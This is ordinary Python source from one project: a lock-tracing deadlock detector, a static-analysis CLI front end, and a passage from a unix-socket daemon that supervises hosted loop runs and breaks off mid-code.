        # per-thread acquire tallies (each thread only ever writes its
        # own slot, so no lock and no lost increments); summed by the
        # `acquires` property
        self._acq_counts: dict[int, int] = {}
        # ((edge_count, self_deadlock_count), cycle list) -- see cycles()
        self._cycles_cache: tuple[tuple[int, int], list[dict]] | None = None

    # ------------------------------------------------------- hot path

    def _held(self) -> list:
        h = getattr(self._tls, "held", None)
        if h is None:
            h = self._tls.held = []
        return h

    @property
    def acquires(self) -> int:
        return sum(self._acq_counts.values())

    def before_acquire(self, lock: "TracedLock", blocking: bool = True,
                       timeout: float = -1) -> None:
        if not self.enabled:
            return
        held = self._held()
        if any(e[1] is lock for e in held):
            # RLock reentry carries no ordering information -- but an
            # UNBOUNDED blocking re-acquire of a held non-reentrant
            # lock is a guaranteed single-thread deadlock: record it
            # before we park forever.  Trylocks and timed attempts are
            # exempt -- Condition._is_owned probes a held lock with
            # acquire(False) by design.
            if not lock._reentrant and blocking and timeout < 0 \
                    and lock.site not in self.self_deadlocks:
                with self._glock:
                    self.self_deadlocks.setdefault(lock.site, {
                        "count": 1,
                        "thread": threading.current_thread().name,
                        "held_stack": [
                            list(e[2]) for e in held if e[1] is lock
                        ][0],
                        "acquire_stack": list(_mini_stack()),
                    })
            return
        tid = threading.get_ident()
        self._acq_counts[tid] = self._acq_counts.get(tid, 0) + 1
        if not held:
            return
        my_stack: tuple[str, ...] | None = None
        for site_a, lock_a, stack_a in held:
            if site_a == lock.site:
                with self._glock:
                    self.same_site[site_a] = \
                        self.same_site.get(site_a, 0) + 1
                continue
            key = (site_a, lock.site)
            if key in self.edges:       # racy pre-check; settled below
                with self._glock:
                    self.edges[key]["count"] += 1
                continue
            if my_stack is None:
                my_stack = _mini_stack()
            with self._glock:
                if key in self.edges:
                    self.edges[key]["count"] += 1
                else:
                    self.edges[key] = {
                        "count": 1,
                        "thread": threading.current_thread().name,
                        "held_stack": list(stack_a),
                        "acquire_stack": list(my_stack),
                    }

    def acquired(self, lock: "TracedLock") -> None:
        if not self.enabled:
            return
        self._held().append((lock.site, lock, _mini_stack()))

    def released(self, lock: "TracedLock") -> None:
        if not self.enabled:
            return
        held = self._held()
        for i in range(len(held) - 1, -1, -1):
            if held[i][1] is lock:
                del held[i]
                return

    # ------------------------------------------------------- analysis

    def cycles(self) -> list[dict]:
        """Every elementary cross-site cycle, each with its edges and
        both acquisition stacks per edge.  Empty list == deadlock-free
        ordering over everything this graph observed.  Cached per edge
        count: report()/render_cycles() reuse one enumeration instead
        of re-running the (worst-case exponential) DFS."""
        with self._glock:
            key = (len(self.edges), len(self.self_deadlocks))
            cached = self._cycles_cache
            if cached is not None and cached[0] == key:
                return cached[1]
            adj: dict[str, list[str]] = {}
            for a, b in self.edges:
                adj.setdefault(a, []).append(b)
            edge_docs = {k: dict(v) for k, v in self.edges.items()}
            self_dl = {s: dict(d) for s, d in self.self_deadlocks.items()}
        found: list[list[str]] = []
        seen_cycles: set[tuple[str, ...]] = set()

        def dfs(start: str) -> None:
            stack: list[tuple[str, list[str]]] = [(start, [start])]
            while stack:
                node, path = stack.pop()
                for nxt in adj.get(node, ()):
                    if nxt == start:
                        # path only ever contains nodes >= start, so
                        # start is the cycle's canonical smallest node
                        norm = tuple(path)
                        if norm not in seen_cycles:
                            seen_cycles.add(norm)
                            found.append(list(norm))
                    elif nxt not in path and nxt > start:
                        # only walk nodes ordered after start: every
                        # cycle is found from its smallest node exactly
                        # once, and the search stays polynomial-ish
                        stack.append((nxt, path + [nxt]))

        for node in sorted(adj):
            dfs(node)
        out = []
        # a held non-reentrant lock re-acquired by its own thread is
        # the degenerate (guaranteed) cycle: report it first
        for site, doc in sorted(self_dl.items()):
            out.append({"locks": [site],
                        "edges": [{"from": site, "to": site, **doc}]})
        for cyc in found:
            edges = []
            for i, a in enumerate(cyc):
                b = cyc[(i + 1) % len(cyc)]
                doc = edge_docs.get((a, b), {})
                edges.append({"from": a, "to": b, **doc})
            out.append({"locks": cyc, "edges": edges})
        with self._glock:
            self._cycles_cache = (key, out)
        return out

    def report(self) -> dict:
        with self._glock:
            n_edges = len(self.edges)
        return {
            "acquires": self.acquires,
            "edges": n_edges,
            "same_site_nestings": dict(self.same_site),
            "cycles": self.cycles(),
        }

    def render_cycles(self) -> str:
        lines: list[str] = []
        for c in self.cycles():
            lines.append("potential deadlock: "
                         + " -> ".join(c["locks"] + [c["locks"][0]]))
            for e in c["edges"]:
                lines.append(f"  {e['from']} held while acquiring "
                             f"{e['to']} (thread {e.get('thread', '?')}, "
                             f"seen {e.get('count', 0)}x)")
                for fr in e.get("held_stack", []):
                    lines.append(f"    held at:    {fr}")
                for fr in e.get("acquire_stack", []):
                    lines.append(f"    acquire at: {fr}")
        return "\n".join(lines)


# active recording graphs, innermost last.  A stack (not a singleton)
# so `testenv.lock_tracing()` nests under the suite-wide
# CLAWKER_TPU_LOCKGRAPH tracer: every traced lock dispatches events to
# ALL active graphs, and popping one's own graph never disables the
# outer one.  Each graph keeps its own thread-local held state, so an
# inner graph only ever sees edges from its own install window.
_graphs: list[LockGraph] = []


class TracedLock:
    """``threading.Lock`` wrapper feeding the active :class:`LockGraph`
    stack (or one pinned graph, for direct construction in tests)."""

    _reentrant = False

    def __init__(self, graph: LockGraph | None = None, site: str = "?",
                 inner=None):
        self._graph = graph         # None = dispatch to the active stack
        self.site = site
        self._inner = inner if inner is not None else _ORIG_LOCK()

    def _targets(self):
        return (self._graph,) if self._graph is not None else tuple(_graphs)

    def acquire(self, blocking: bool = True, timeout: float = -1) -> bool:
        for g in self._targets():
            g.before_acquire(self, blocking, timeout)
        ok = self._inner.acquire(blocking, timeout)
        if ok:
            for g in self._targets():
                g.acquired(self)
        return ok

    def release(self) -> None:
        self._inner.release()
        for g in self._targets():
            g.released(self)

    def locked(self) -> bool:
        return self._inner.locked()

    def __enter__(self) -> "TracedLock":
        self.acquire()
        return self

    def __exit__(self, *exc) -> None:
        self.release()

    def __getattr__(self, name: str):
        # stdlib code probes lock internals the wrapper doesn't model --
        # os.register_at_fork(after_in_child=lock._at_fork_reinit, ...)
        # in concurrent.futures and logging is the load-bearing one.
        # Delegate to the real lock; held-state bookkeeping is
        # thread-local, and a forked child has one thread and a fresh
        # world, so inner-only reinit is exactly right.
        try:
            inner = object.__getattribute__(self, "_inner")
        except AttributeError:      # mid-__init__: nothing to delegate to
            raise AttributeError(name) from None
        return getattr(inner, name)

    def __repr__(self) -> str:
        return f"<Traced{'R' if self._reentrant else ''}Lock {self.site}>"


class TracedRLock(TracedLock):
    _reentrant = True

    def __init__(self, graph: LockGraph | None = None, site: str = "?"):
        super().__init__(graph, site, inner=_ORIG_RLOCK())

    # threading.Condition integration: it probes for these and, when
    # present, uses them to fully release / reacquire around wait().
    # They must keep OUR held bookkeeping in sync or every lock taken
    # during a cond.wait() would look nested under the waited lock.
    # (Defined explicitly, so __getattr__ never hands Condition the
    # inner methods that would bypass the bookkeeping.)
    def _is_owned(self) -> bool:
        return self._inner._is_owned()

    def _release_save(self):
        state = self._inner._release_save()
        for g in self._targets():
            g.released(self)
        return state

    def _acquire_restore(self, state) -> None:
        self._inner._acquire_restore(state)
        for g in self._targets():
            g.acquired(self)


def _make_lock():
    return TracedLock(None, _site(2))


def _make_rlock():
    return TracedRLock(None, _site(2))


def installed_graph() -> LockGraph | None:
    """The innermost active graph, or None when tracing is off."""
    return _graphs[-1] if _graphs else None


def install_lock_tracing(graph: LockGraph | None = None) -> LockGraph:
    """Push a recording graph and (on first install) patch
    ``threading.Lock``/``RLock`` so every lock created from now on
    feeds the active graph stack.  Locks that already exist stay
    untraced.  Nests: an inner install records its own window and its
    matching :func:`uninstall_lock_tracing` pops only its own graph --
    the suite-wide CLAWKER_TPU_LOCKGRAPH tracer survives a
    ``testenv.lock_tracing()`` block untouched."""
    g = graph if graph is not None else LockGraph()
    _graphs.append(g)
    if len(_graphs) == 1:
        threading.Lock = _make_lock             # type: ignore[assignment]
        threading.RLock = _make_rlock           # type: ignore[assignment]
    return g


def uninstall_lock_tracing() -> LockGraph | None:
    """Pop the innermost graph and stop its recording; restores the
    real lock factories when the last graph leaves.  Locks created
    while tracing was on keep working (they wrap real locks)."""
    g = _graphs.pop() if _graphs else None
    if g is not None:
        g.enabled = False
    if not _graphs:
        threading.Lock = _ORIG_LOCK             # type: ignore[assignment]
        threading.RLock = _ORIG_RLOCK           # type: ignore[assignment]
    return g
