"""`clawker analyze` engine-room: argparse front-end + report rendering.

This module is the pure-stdlib entrypoint (``python -m
clawker_tpu.analysis``) so the analyzer runs in <2s on a bare host with
no click/JAX/device libs installed; cli/cmd_analyze.py is a thin click
shim over :func:`main` for the integrated CLI.

Exit codes (CI contract, docs/static-analysis.md):
  0  clean -- no findings outside the committed baseline
  2  new findings
  1  internal error

(Stale baseline entries never change the exit code; they are surfaced
in the report and the tier-1 repo-clean test asserts there are none.)
"""

from __future__ import annotations

import argparse
import sys
from pathlib import Path

from .baseline import BASELINE_NAME, Baseline
from .core import CHECKERS, AnalysisReport, run_analysis


def default_root() -> Path:
    """The repo this package was imported from: the parent of the
    ``clawker_tpu`` package directory."""
    return Path(__file__).resolve().parents[2]


def render_text(report: AnalysisReport, *, baseline_path: Path) -> str:
    lines: list[str] = []
    for f in report.new:
        lines.append(f.render())
    if report.grandfathered:
        lines.append(f"{len(report.grandfathered)} grandfathered finding(s) "
                     f"in {baseline_path.name} (fix and --baseline-update "
                     f"to shrink)")
    if report.suppressed:
        lines.append(f"{len(report.suppressed)} suppressed by "
                     f"`analyze: allow` justification(s)")
    for fp in report.stale_baseline:
        lines.append(f"stale baseline entry {fp}: nothing matches it "
                     f"anymore -- run --baseline-update to expire it")
    verdict = "ok" if not report.new else f"{len(report.new)} NEW finding(s)"
    lines.append(
        f"analyze: {verdict} ({report.files_scanned} file(s), "
        f"{len(report.checkers)} checker(s), {report.wall_s:.2f}s)")
    return "\n".join(lines)


def build_parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(
        prog="clawker analyze",
        description=("Static architectural-invariant checks "
                     "(docs/static-analysis.md)."))
    p.add_argument("--root", default=None,
                   help="Repo root to analyze (default: the repo this "
                        "package lives in).")
    p.add_argument("--json", action="store_true", dest="as_json",
                   help="Stable JSON report on stdout (CI consumption).")
    p.add_argument("--baseline", default=None,
                   help=f"Baseline file (default: <root>/{BASELINE_NAME}).")
    p.add_argument("--baseline-update", action="store_true",
                   help="Rewrite the baseline to the current findings "
                        "(grandfather new ones, expire stale entries) "
                        "and exit 0.")
    p.add_argument("--checker", action="append", default=None,
                   metavar="ID", help="Run only this checker (repeatable).")
    p.add_argument("--list-checkers", action="store_true",
                   help="List registered checkers and exit.")
    return p


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    if args.list_checkers:
        from .core import _load_checkers

        _load_checkers()
        for cid in sorted(CHECKERS):
            print(f"{cid:24s} {CHECKERS[cid].doc}")
        return 0
    root = Path(args.root).resolve() if args.root else default_root()
    if not (root / "clawker_tpu").is_dir():
        print(f"error: {root} has no clawker_tpu package", file=sys.stderr)
        return 1
    baseline_path = (Path(args.baseline) if args.baseline
                     else root / BASELINE_NAME)
    baseline = Baseline.load(baseline_path)
    only = set(args.checker) if args.checker else None
    if only:
        from .core import _load_checkers

        _load_checkers()
        unknown = only - set(CHECKERS)
        if unknown:
            print(f"error: unknown checker(s): {', '.join(sorted(unknown))}",
                  file=sys.stderr)
            return 1
    report = run_analysis(root, baseline=baseline, only=only)
    if args.baseline_update:
        # a scoped (--checker) run only re-learns the selected
        # checkers' entries: every other checker's grandfathered
        # findings were never re-checked and must survive the rewrite
        kept = ([] if only is None else
                [e for e in baseline.entries()
                 if e.get("checker") not in only])
        nb = Baseline(kept + baseline.updated_from(report).entries())
        nb.save(baseline_path)
        grew = len(report.new)
        expired = len(baseline) - (len(nb) - grew)
        print(f"wrote {baseline_path} ({len(nb)} grandfathered finding(s), "
              f"{grew} added, {expired} expired)")
        if grew:
            # growing the baseline disarms the gate for those findings:
            # say so where the diff reviewer will see it
            print(f"warning: {grew} NEW finding(s) were grandfathered -- "
                  f"each needs an in-code justification comment "
                  f"(docs/static-analysis.md#baseline-workflow)",
                  file=sys.stderr)
        return 0
    if args.as_json:
        sys.stdout.write(report.to_json())
    else:
        print(render_text(report, baseline_path=baseline_path))
    return report.exit_code
