"""The loopd server: pod-scale loop supervision behind a unix socket.

One :class:`LoopdServer` per host owns the state PR-6 left in-process:

- **one** :class:`~clawker_tpu.placement.AdmissionController` -- every
  hosted run's launches bill the same per-worker token buckets, so two
  concurrent ``clawker loop`` clients can never jointly exceed
  ``max_inflight_per_worker`` the way two in-process controllers could;
- **one** :class:`~clawker_tpu.loop.LaneRegistry` -- engine mutations
  against a worker serialize on one lane across runs;
- **daemon-owned health breakers** -- a
  :class:`~clawker_tpu.health.HealthMonitor` probing the fleet for the
  daemon's whole lifetime, feeding ``clawker fleet health`` without a
  CLI-side probe round;
- the hosted runs themselves: each ``submit_run`` builds a
  :class:`~clawker_tpu.loop.LoopScheduler` (shared admission + lanes)
  and drives it on a daemon thread, so the run OUTLIVES the submitting
  CLI -- detach closes the stream, ``clawker loop attach`` re-streams.

Wire protocol: length-prefixed JSON frames (``agentd/protocol.py``
framing) over a unix socket in a 0700 runtime dir with a 0600 socket --
filesystem permissions are the authentication, the bksession/nsd
pattern (docs/loopd.md#security).

Durability: hosted schedulers journal write-ahead exactly as the
in-process path does (same :class:`~clawker_tpu.loop.RunJournal`
records under the same ``logs/runs`` dir), so a SIGKILLed daemon
resumes via ``clawker loop --resume`` with the same adoption
semantics.  The daemon fires the chaos seams ``loopd.post_submit`` /
``loopd.post_ack`` at its own transition boundaries, and
:meth:`LoopdServer.kill` freezes every hosted scheduler the way
process death would (the soak/crash-test seam).
"""

from __future__ import annotations

import collections
import os
import queue
import socket
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from .. import __version__, logsetup, telemetry
from ..agentd import protocol
from ..chaos.seams import NULL_SEAMS
from ..config import Config
from ..engine.drivers import RuntimeDriver
from ..errors import ClawkerError
from ..health import HealthMonitor
from ..loop import LaneRegistry, LoopScheduler, LoopSpec
from ..monitor.events import TRACE_SPAN
from ..placement import AdmissionController
from . import LoopdError, pidfile_path, runtime_dir, socket_path

log = logsetup.get("loopd.server")

_CONNECTIONS = telemetry.counter(
    "loopd_connections_total", "Client connections accepted by loopd")
_RUNS = telemetry.counter(
    "loopd_runs_total", "Loop runs submitted to loopd", labels=("tenant",))
_ACTIVE_RUNS = telemetry.gauge(
    "loopd_active_runs", "Hosted runs currently executing")
_EVENTS_DROPPED = telemetry.counter(
    "loopd_events_dropped_total",
    "Stream events dropped on slow subscriber queues")

EVENT_RING = 512                # recent events kept per run for attach
SUB_QUEUE_MAX = 4096            # per-subscriber buffered frames
DRIVE_POLL_S = 0.05             # scheduler tick cadence inside the daemon
DONE_RUNS_KEPT = 64             # finished runs retained for attach/status;
#                                 beyond this the oldest done runs are
#                                 evicted (a resident daemon must not
#                                 accumulate every run it ever hosted)
LEASE_POOL_FACTOR = 4           # leasable launch credits per admission
#                                 token: a lease bounds a ROUTER's burst
#                                 (router-side flow control), while the
#                                 daemon's own admission buckets still
#                                 meter the actual inflight launches --
#                                 so credits may safely exceed the
#                                 instantaneous token count
#                                 (docs/federation.md#leases)


def spec_from_doc(doc: dict) -> LoopSpec:
    """Submitted spec doc -> LoopSpec (the same key set the journal's
    run header uses, so client and WAL stay one vocabulary)."""
    return LoopSpec(
        parallel=max(1, int(doc.get("parallel") or 1)),
        iterations=int(doc.get("iterations") or 0),
        placement=str(doc.get("placement") or "spread"),
        tenant=str(doc.get("tenant") or "default"),
        tenant_weight=float(doc.get("tenant_weight") or 1.0),
        tenant_max_inflight=int(doc.get("tenant_max_inflight") or 0),
        max_inflight_per_worker=int(doc.get("max_inflight_per_worker") or 0),
        image=str(doc.get("image") or "@"),
        prompt=str(doc.get("prompt") or ""),
        worktrees=bool(doc.get("worktrees") or False),
        gitguard=(bool(doc["gitguard"])
                  if doc.get("gitguard") is not None else None),
        workspace_mode=str(doc.get("workspace_mode") or ""),
        agent_prefix=str(doc.get("agent_prefix") or "loop"),
        env={str(k): str(v) for k, v in (doc.get("env") or {}).items()},
        failover=str(doc.get("failover") or "migrate"),
        orphan_grace_s=(float(doc["orphan_grace_s"])
                        if doc.get("orphan_grace_s") is not None else None),
        warm_pool_depth=int(doc.get("warm_pool_depth") or 0),
        telemetry=bool(doc.get("telemetry", True)),
        trace_parent=str(doc.get("trace_parent") or ""),
        clock_offset_s=float(doc.get("clock_offset_s") or 0.0),
    )


@dataclass
class _Lease:
    """One federation capacity lease: a bounded, renewable block of
    launch credits granted to a front-tier router so cross-pod
    placement pays ZERO admission round-trips on the launch hot path
    (the router spends credits locally; the daemon's admission buckets
    still meter the real launches).  TTL-bounded: a partitioned
    router's credits lapse back to the pod (docs/federation.md)."""

    lease_id: str
    tenant: str
    granted: int                # credits in this block
    remaining: int              # credits not yet spent (renew refreshes)
    ttl_s: float
    expires_at: float           # monotonic deadline
    renewals: int = 0


@dataclass
class _DaemonRun:
    """One hosted run: its scheduler, drive thread, and subscribers.

    ``sched`` is built on the DRIVE thread (submit acks in one socket
    hop plus registration; journal/flight-recorder opens and the
    placement fan-out happen just after) -- readers must tolerate a
    brief ``None``."""

    run_id: str
    spec: LoopSpec
    tenant: str
    client: str                         # submitting client identity
    keep: bool = False
    resume_image: object | None = None  # adopt_run: the replayed journal
    #                                     image a drive thread resumes
    #                                     instead of starting fresh
    #                                     (cross-pod migration)
    adopt_orphan_grace_s: float | None = None
    sched: LoopScheduler | None = None
    thread: threading.Thread | None = None
    stop_requested: threading.Event = field(default_factory=threading.Event)
    done: threading.Event = field(default_factory=threading.Event)
    result: dict = field(default_factory=dict)
    lock: threading.Lock = field(default_factory=threading.Lock)
    ring: collections.deque = field(
        default_factory=lambda: collections.deque(maxlen=EVENT_RING))
    subs: dict[int, queue.Queue] = field(default_factory=dict)
    dropped: int = 0                    # frames dropped off slow subscriber
    #                                     queues (the per-run view of
    #                                     loopd_events_dropped_total; the
    #                                     status feed and the attach-stream
    #                                     footer both surface it)
    _next_sub: int = 0

    def subscribe(self) -> tuple[int, queue.Queue, list[dict], bool]:
        """(sub id, frame queue, ring snapshot, finished).  Snapshot and
        registration happen under one lock so no event can land between
        them unseen."""
        with self.lock:
            snapshot = list(self.ring)
            if self.done.is_set():
                return -1, queue.Queue(), snapshot, True
            self._next_sub += 1
            q: queue.Queue = queue.Queue(maxsize=SUB_QUEUE_MAX)
            self.subs[self._next_sub] = q
            return self._next_sub, q, snapshot, False

    def unsubscribe(self, sub_id: int) -> None:
        with self.lock:
            self.subs.pop(sub_id, None)

    def publish(self, frame: dict | None) -> None:
        """Push a frame to every subscriber (None = stream sentinel).
        A slow subscriber drops its OLDEST buffered frames rather than
        back-pressuring the scheduler's event bus -- the journal/flight
        record stay the durable history; the stream is a live view.
        Drop-oldest (not drop-newest) so the terminal ``run_done``
        frame and the None sentinel always land: dropping those would
        wedge the writer in ``q.get()`` and the client in ``events()``
        forever."""
        with self.lock:
            if frame is not None:
                self.ring.append(frame)
            for q in self.subs.values():
                while True:
                    try:
                        q.put_nowait(frame)
                        break
                    except queue.Full:
                        try:
                            q.get_nowait()
                        except queue.Empty:
                            continue
                        self.dropped += 1
                        _EVENTS_DROPPED.inc()

    def status_doc(self) -> dict:
        sched = self.sched
        return {
            "run": self.run_id,
            "state": "done" if self.done.is_set() else "running",
            "tenant": self.tenant,
            "client": self.client,
            "parallel": self.spec.parallel,
            "iterations": self.spec.iterations,
            "placement": self.spec.placement,
            "agents": sched.status() if sched is not None else [],
            "gitguard": (sched.gitguard_summary()
                         if sched is not None else {"enabled": False}),
            "storage": (sched.storage_summary()
                        if sched is not None else {"durability": "unknown"}),
            "subscribers": len(self.subs),
            "events_dropped": self.dropped,
            **({"ok": self.result.get("ok")} if self.done.is_set() else {}),
        }


class LoopdServer:
    """Accept loop, per-connection handlers, hosted-run supervision."""

    def __init__(self, cfg: Config, driver: RuntimeDriver, *,
                 sock_path=None, seams=None, metrics_port: int | None = None,
                 executors=None):
        self.cfg = cfg
        self.driver = driver
        # worker-resident launch data plane for hosted runs (an
        # ExecutorSet; docs/workerd.md) -- every hosted scheduler
        # dispatches through it when a worker's channel is live
        self.executors = executors
        self.sock_path = sock_path if sock_path is not None else (
            socket_path(cfg))
        self.seams = seams if seams is not None else NULL_SEAMS
        ps = cfg.settings.loop.placement
        # THE pod-scale state (one per host, not per run):
        self.admission = AdmissionController(
            max_inflight_per_worker=ps.max_inflight_per_worker,
            max_pending_per_worker=ps.max_pending_per_worker)
        self.lanes = LaneRegistry()
        self.health: HealthMonitor | None = None
        self.runs: dict[str, _DaemonRun] = {}
        self._runs_lock = threading.Lock()
        # federation capacity leases (docs/federation.md#leases)
        self._leases: dict[str, _Lease] = {}
        self._leases_lock = threading.Lock()
        self._lease_grants = 0          # lease blocks ever granted
        self._lease_expired = 0         # leases lapsed by TTL
        self._listener: socket.socket | None = None
        self._accept_thread: threading.Thread | None = None
        self._conns: set[socket.socket] = set()
        self._conns_lock = threading.Lock()
        self._stop = threading.Event()
        self._stopped = threading.Event()   # stop()/kill() COMPLETED
        self._aborted = False           # kill(): the chaos crash seam
        self._started_at = 0.0
        self._metrics_port = (metrics_port if metrics_port is not None
                              else cfg.settings.loopd.metrics_port)
        self._metrics_server = None
        self.sentinel = None        # daemon-lifetime FleetSentinel when
        #                             settings sentinel.enable + jax
        self.shipper = None         # daemon-lifetime TelemetryShipper when
        #                             settings monitoring.shipper.enable
        self.capacity = None        # daemon-lifetime CapacityController
        #                             when settings capacity.enable
        #                             (docs/elastic-capacity.md)
        self._capacity_journal = None   # the daemon's own capacity WAL:
        #                             durable scale intents land here even
        #                             with zero hosted runs to fan out to
        # distributed tracing (docs/tracing.md): daemon-lifetime recorder
        # for ``loopd.submit`` hop spans -- one file per pod, every hosted
        # run's hop in it (the merge filters by trace id)
        self.flight = None
        try:
            tele = cfg.settings.telemetry
            if tele.tracing.enable and tele.flight_recorder.enable:
                from ..monitor.ledger import FLIGHT_DIR, FlightRecorder
                self.flight = FlightRecorder(
                    Path(cfg.logs_dir) / FLIGHT_DIR
                    / f"loopd-{self.pod_name()}.jsonl",
                    max_bytes=tele.flight_recorder.max_bytes)
        except AttributeError:
            self.flight = None
        # daemon-lifetime disk-pressure monitor (docs/durability.md):
        # hosted schedulers tick their own, but the daemon must watch
        # too -- the emergency retention GC has to fire even with zero
        # hosted runs, BEFORE the capacity WAL's durable appends fail
        self.pressure = None
        try:
            sp = cfg.settings.loop.storage_pressure
            if sp.enable:
                from ..loop.journal import retention_gc
                from ..monitor.pressure import DiskPressureMonitor
                keep = max(1, int(sp.retention_runs))
                self.pressure = DiskPressureMonitor(
                    Path(cfg.logs_dir), soft_free_pct=sp.soft_free_pct,
                    hard_free_pct=sp.hard_free_pct,
                    check_interval_s=sp.check_interval_s,
                    gc=lambda: retention_gc(Path(cfg.logs_dir), keep=keep))
        except AttributeError:
            self.pressure = None

    # ----------------------------------------------------------- lifecycle

    def start(self) -> "LoopdServer":
        """Bind the control socket (0700 dir / 0600 socket -- the
        bksession/nsd hardening pattern), start the accept loop, the
        daemon health monitor, and the metrics port."""
        rt = self.sock_path.parent
        rt.mkdir(parents=True, exist_ok=True)
        os.chmod(rt, 0o700)
        if self.sock_path.exists():
            # a live daemon answering on the socket must not be usurped;
            # a stale socket from a SIGKILLed daemon is swept
            if self._socket_answers():
                raise LoopdError(
                    f"loopd already running on {self.sock_path}")
            self.sock_path.unlink()
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        old_umask = os.umask(0o177)     # cover the bind itself
        try:
            listener.bind(str(self.sock_path))
        finally:
            os.umask(old_umask)
        os.chmod(self.sock_path, 0o600)     # umask-proof pin
        listener.listen(64)
        self._listener = listener
        self._started_at = time.monotonic()
        try:
            pidfile_path(self.cfg).parent.mkdir(parents=True, exist_ok=True)
            pidfile_path(self.cfg).write_text(str(os.getpid()))
        except OSError:
            pass
        self.health = HealthMonitor(self.driver)
        self.health.start()
        self._start_sentinel()
        self._start_shipper()
        self._start_capacity()
        if self.pressure is not None:
            threading.Thread(target=self._pressure_loop, daemon=True,
                             name="loopd-pressure").start()
        if self._metrics_port:
            self._metrics_server = telemetry.MetricsServer(
                self._metrics_port).start()
        self._accept_thread = threading.Thread(
            target=self._accept_loop, daemon=True, name="loopd-accept")
        self._accept_thread.start()
        log.info("loopd listening on %s (pid %d)", self.sock_path,
                 os.getpid())
        return self

    def _start_sentinel(self) -> None:
        """Bring up the daemon-lifetime fleet sentinel when settings
        sentinel.enable is set and the accelerator runtime imports
        (docs/analytics-online.md).  Hosted runs' event buses tap into
        its behavioral features at construction (_drive); fleet views
        render its rows off the status RPC.  Failure to start degrades
        to no sentinel -- the daemon's job is supervision, not scoring."""
        ss = self.cfg.settings.sentinel
        if not ss.enable:
            return
        try:
            from ..analytics import runtime as art

            if not art.jax_available():
                return
            from ..sentinel import FleetSentinel

            self.sentinel = FleetSentinel(
                self.cfg, self.driver, interval_s=ss.interval_s,
                window_s=ss.window_s, train_steps=ss.train_steps,
                threshold=ss.threshold,
                baseline_window=ss.baseline_window).start()
            log.info("loopd sentinel up (interval %.1fs)", ss.interval_s)
        except Exception:           # noqa: BLE001 -- observe-only rider
            log.exception("loopd sentinel failed to start; continuing")
            self.sentinel = None

    def _start_shipper(self) -> None:
        """Bring up the daemon-lifetime fleet-telemetry shipper when
        settings ``monitoring.shipper.enable`` is set: every hosted
        run's typed events + spans, plus periodic registry snapshots,
        batch into the monitor stack's bulk API
        (docs/fleet-console.md#ingestion).  Failure degrades to no
        shipper -- indexing is a rider, never the daemon's job."""
        if not self.cfg.settings.monitoring.shipper.enable:
            return
        try:
            from ..monitor.shipper import TelemetryShipper

            self.shipper = TelemetryShipper.from_config(
                self.cfg, source=f"loopd:{os.getpid()}").start()
            log.info("loopd shipper up (interval %.1fs)",
                     self.shipper.interval_s)
        except Exception:           # noqa: BLE001 -- observe-only rider
            log.exception("loopd shipper failed to start; continuing")
            self.shipper = None

    def _start_capacity(self) -> None:
        """Bring up the daemon-lifetime elastic-capacity controller
        when settings ``capacity.enable`` is set
        (docs/elastic-capacity.md).  The controller governs the
        DAEMON's shared admission buckets and every live hosted run's
        warm pool: pool targets split across pooled runs, journal
        records fan out to each live run's WAL (so any of them resumes
        the controller state), and the drain gate is the max of every
        live run's journal-replay count -- a drain fires only when NO
        hosted run has a live placement on the victim.  Failure
        degrades to static capacity -- supervision, not scaling, is the
        daemon's job."""
        cs = self.cfg.settings.capacity
        if not cs.enable:
            return
        try:
            from ..capacity import (
                CapacityController,
                CapacityHooks,
                make_scaler,
            )
            from ..loop.journal import RunJournal, journal_path

            # the daemon's own capacity WAL: decisions fan out to every
            # live run's journal, but with ZERO hosted runs a durable
            # provision/drain intent must still land SOMEWHERE before
            # the scaler acts -- an idle daemon deleting a VM with no
            # auditable intent would break exactly the write-ahead
            # promise the controller makes
            self._capacity_journal = RunJournal(
                journal_path(self.cfg.logs_dir, "loopd-capacity"),
                on_fault=lambda f: log.warning(
                    "loopd capacity WAL fault: op=%s recovered=%s "
                    "dropped=%d %s", f.op, f.recovered, f.dropped, f.error))
            scaler = (make_scaler(self.driver, self.cfg,
                                  max_workers=cs.autoscale.max_workers)
                      if cs.autoscale.enable else None)
            self.capacity = CapacityController(
                cs, hooks=self._capacity_hooks(CapacityHooks),
                scaler=scaler)
            threading.Thread(target=self._capacity_loop, daemon=True,
                             name="loopd-capacity").start()
            log.info("loopd capacity controller up (interval %.1fs)",
                     cs.interval_s)
        except Exception:       # noqa: BLE001 -- elastic is a rider
            log.exception("loopd capacity controller failed to start")
            self.capacity = None

    def _live_scheds(self) -> list:
        with self._runs_lock:
            return [r.sched for r in self.runs.values()
                    if not r.done.is_set() and r.sched is not None]

    def _capacity_hooks(self, hooks_cls):
        def pooled():
            return [s for s in self._live_scheds() if s.warmpool is not None]

        def pool_stats() -> dict:
            agg: dict = {"workers": {}}
            for sched in pooled():
                for wid, row in sched.warmpool.stats()["workers"].items():
                    cur = agg["workers"].setdefault(
                        wid, {"ready": 0, "inflight": 0, "target": 0})
                    cur["ready"] += row.get("ready", 0)
                    cur["inflight"] += row.get("inflight", 0)
                    cur["target"] += row.get("target", 0)
            return agg

        def set_pool_target(wid: str, target: int) -> None:
            runs = pooled()
            if not runs:
                return
            # the fleet-wide target splits across pooled runs (their
            # arrival counters all feed the same registry): floor plus
            # one-each of the remainder, so the sum equals the
            # controller's ask exactly -- a ceil-everywhere split would
            # overshoot by up to len(runs)-1 idle containers per worker
            target = max(0, int(target))
            base, extra = divmod(target, len(runs))
            for i, sched in enumerate(runs):
                sched.warmpool.set_target(wid, base + (1 if i < extra
                                                       else 0))

        def live_placements(wid: str) -> int:
            return sum(s._journaled_live_placements(wid)
                       for s in self._live_scheds())

        def journal(kind: str, *, durable: bool = False, **fields):
            # the daemon WAL first (it exists even with zero hosted
            # runs), then fan out so every run's --resume can restore
            # the controller state.  The daemon-WAL receipt is the
            # return value: it is the one that must be durable before
            # the scaler may act (controller consumes it)
            rcpt = None
            if self._capacity_journal is not None:
                rcpt = self._capacity_journal.append(kind, durable=durable,
                                                     **fields)
            for sched in self._live_scheds():
                sched._journal(kind, durable=durable, **fields)
            return rcpt

        def emit(ev) -> None:
            from ..monitor.events import CAPACITY_DECISION

            for sched in self._live_scheds():
                sched.on_event("capacity", CAPACITY_DECISION, ev.detail())

        return hooks_cls(
            workers=lambda: [w.id for w in self.driver.workers()
                             if w.engine is not None],
            admission_stats=self.admission.stats,
            set_token_cap=self.admission.set_worker_capacity,
